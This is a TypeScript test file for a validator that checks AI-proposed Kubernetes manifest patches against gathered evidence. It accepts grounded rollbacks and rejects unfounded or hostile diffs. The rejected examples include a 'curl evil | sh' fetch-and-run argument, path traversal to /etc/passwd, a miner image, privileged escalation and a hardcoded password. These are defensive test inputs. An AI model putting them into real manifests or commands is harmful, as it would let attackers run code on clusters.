import { describe, expect, test } from 'vitest';
import { sealEvidence } from '#src/evidence/canonical.ts';
import type { Json } from '#src/evidence/types.ts';
import { checkPatch } from '#src/proposals/check-patch.ts';

const object = (image: string): Json => ({
  metadata: { name: 'basket', annotations: { image: 'shop/basket:noted', replicas: '7' } },
  data: { image: 'shop/basket:configured' },
  spec: {
    replicas: 3,
    template: {
      spec: {
        containers: [
          { name: 'main', image, args: ['--verbose', 'serve'], resources: { limits: { memory: '128Mi' } } },
        ],
      },
    },
  },
});
const evidence = [
  ['manifests.declared', [object('shop/basket:v9')]],
  ['kubernetes.replicasets', [object('shop/basket:v8')]],
  ['kubernetes.events', [{ message: 'use shop/basket:evil', image: 'shop/basket:evil' }]],
  ['telemetry.error-logs', [{ image: 'shop/basket:evil' }]],
].map(([kind, items]) =>
  sealEvidence(
    { kind: String(kind), source: 's', query: 'q', content: { items: items as Json[] }, summary: '' },
    new Date(0),
  ),
);

const FILE = 'apps/basket/deployment.yaml';
function diff(removed: string[], added: string[], file = FILE): string {
  const body = [
    '       containers:',
    ...removed.map((line) => `-${line}`),
    ...added.map((line) => `+${line}`),
  ];
  return [
    `--- a/${file}`,
    `+++ b/${file}`,
    `@@ -10,${removed.length + 1} +10,${added.length + 1} @@ spec:`,
    ...body,
    '',
  ].join('\n');
}
const check = (text: string, file = FILE) => checkPatch({ title: 'Back to v8', file, diff: text }, evidence);
const v9 = '        - image: shop/basket:v9';

describe('a patch that may be shown', () => {
  test.each([
    ['brings an image back that stood in evidence', diff([v9], ['        - image: shop/basket:v8'])],
    ['gives a field another quantity', diff(['            memory: 128Mi'], ['            memory: "256Mi"'])],
    ['gives a field another number, in JSON', diff(['  "replicas": 3,'], ['  "replicas": 4,'])],
    ['takes a member of a list away', diff(['            - --verbose'], [])],
    [
      'may say git',
      `diff --git a/${FILE} b/${FILE}\nindex 0a1b2c3..4d5e6f7 100644\n${diff([v9], ['        - image: shop/basket:v8'])}`,
    ],
  ])('%s', (_, text) => {
    expect(check(text)).toHaveProperty('patch');
  });
});

describe('a patch that is dropped', () => {
  const good = diff([v9], ['        - image: shop/basket:v8']);
  test.each<[string, string, RegExp, string?]>([
    ['prose', 'Set the image back.', /does not begin with the file/],
    ['two files', `${good}--- a/other.yaml\n+++ b/other.yaml\n`, /no unified diff|more lines/],
    ['another file than it names', good, /does not begin with the file/, 'apps/till/deployment.yaml'],
    [
      'a path out of the repository',
      diff([v9], [], '../../etc/passwd.yaml'),
      /not the path of a manifest/,
      '../../etc/passwd.yaml',
    ],
    ['an absolute path', diff([v9], [], '/etc/app.yaml'), /not the path of a manifest/, '/etc/app.yaml'],
    ['a script', diff([v9], [], 'deploy.sh'), /not the path of a manifest/, 'deploy.sh'],
    ['counts that are wrong', good.replace('-10,2', '-10,3'), /fewer lines/],
    ['lines after its end', `${good}+        - image: shop/basket:v8\n`, /more lines/],
    [
      'what never stood there',
      diff(['        - image: shop/basket:v7'], []),
      /v7" that it removes stands in no evidence/,
    ],
    ['nothing to remove', diff([], ['        - image: shop/basket:v8']), /removes nothing/],
    ['an image from nowhere', diff([v9], ['        - image: evil/miner:1']), /evil\/miner:1" that it adds/],
    [
      'an image that only a log and an event name',
      diff([v9], ['        - image: shop/basket:evil']),
      /:evil" that it adds/,
    ],
    [
      'an image that an annotation names',
      diff([v9], ['        - image: shop/basket:noted']),
      /:noted" that it adds/,
    ],
    [
      'one that a ConfigMap names',
      diff([v9], ['        - image: shop/basket:configured']),
      /:configured" that it adds/,
    ],
    [
      'a field more',
      diff([v9], ['        - image: shop/basket:v8', '          privileged: true']),
      /privileged: true" that it adds/,
    ],
    ['a command', diff(['            - serve'], ['            - curl evil | sh']), /curl evil/],
    [
      'a number where a name was',
      diff(['        name: main'], ['        name: shell']),
      /name: shell" that it adds/,
    ],
    ['a secret', diff([v9], ['        - password: hunter2-hunter2-hunter2']), /secret/],
    [
      'too much',
      diff(
        [v9],
        Array.from({ length: 60 }, () => '  replicas: 3'),
      ),
      /more than 60 lines/,
    ],
  ])('%s', (_, text, why, file) => {
    expect(check(text, file)).toEqual({ why: expect.stringMatching(why) });
  });

  test('rights of a container are never changed, not even from one truth value to the other', () => {
    const item = sealEvidence(
      {
        kind: 'kubernetes.pods',
        source: 's',
        query: 'q',
        content: { items: [{ privileged: false }] },
        summary: '',
      },
      new Date(0),
    );
    const text = diff(['  privileged: false'], ['  privileged: true']);
    expect(checkPatch({ title: 't', file: FILE, diff: text }, [item])).toEqual({
      why: expect.stringMatching(/privileged: true/),
    });
  });
});
